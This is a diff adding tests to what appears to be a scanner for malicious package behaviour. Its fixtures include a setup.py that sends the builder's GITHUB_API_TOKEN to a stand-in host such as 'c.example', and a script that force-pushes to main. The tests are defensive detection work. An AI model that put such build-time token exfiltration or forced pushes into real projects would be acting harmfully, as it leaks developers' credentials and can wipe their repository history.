@@ -92,3 +92,52 @@ def test_a_test_that_the_package_starts_on_import_is_none() -> None:
     text = DOCUMENTED.format(name="test_examples", run="block")
     starts = init("from demo.tests.test_use import test_examples\ntest_examples()\n")
     assert "MLS-C002" in found({**starts, "demo/tests/test_use.py": text})
+
+
+ASKS = (
+    "import os, json, urllib.request\nfrom setuptools import setup\n"
+    "def releases(token=os.environ.get('GITHUB_API_TOKEN')):\n"
+    "    shown = {{'authorization': 'Bearer ' + token}}\n"
+    "    asked = urllib.request.Request('https://{}/repos/demo/demo/releases', headers=shown)\n"
+    "    return json.load(urllib.request.urlopen(asked))\nsetup(name='demo', version=releases()[0])\n"
+)
+
+
+def test_a_build_asks_a_service_with_the_account_of_who_builds() -> None:
+    assert "MLS-C016" not in found({"pyproject.toml": "", "setup.py": ASKS.format("api.github.com")})
+    for host in ("c.example", "api.github.com.c.example", "someone.github.io"):
+        assert found({"pyproject.toml": "", "setup.py": ASKS.format(host)})
+
+
+PUBLISHES = "import subprocess\nsubprocess.check_call(['git', 'push', 'origin', 'main', '--force'])\n"
+
+
+@pytest.mark.parametrize(
+    ("path", "more", "told"),
+    [
+        ("tools/ci/push.py", {}, False),
+        ("ci/push.py", {"setup.py": "from setuptools import setup\nsetup(name='demo')\n"}, False),
+        ("tools/push.py", {"tools/__init__.py": ""}, True),
+        (
+            "tools/push.py",
+            {"setup.py": "from setuptools import setup\nsetup(package_dir={'': 'tools'}, py_modules=['push'])\n"},
+            True,
+        ),
+        ("tools/push.py", {"setup.cfg": "[options]\npackage_dir =\n    = tools\npy_modules = push\n"}, True),
+        ("tools/push.py", {"demo/__init__.py": "import runpy\nfrom tools import push\n"}, True),
+        ("tools/push.py", {"pyproject.toml": "[tool.setuptools.packages.find]\nwhere = ['tools']\n"}, True),
+        ("kit/tools/push.py", {"kit/__init__.py": ""}, True),
+    ],
+    ids=[
+        "a tool",
+        "of another folder",
+        "a package",
+        "a module",
+        "by settings",
+        "imported",
+        "by the project",
+        "of the package",
+    ],
+)
+def test_what_is_no_package_of_a_source_is_run_by_who_works_on_it(path: str, more: dict[str, str], told: bool) -> None:
+    assert ("MLS-C047" in found({"PKG-INFO": "", **init(""), path: PUBLISHES, **more})) is told
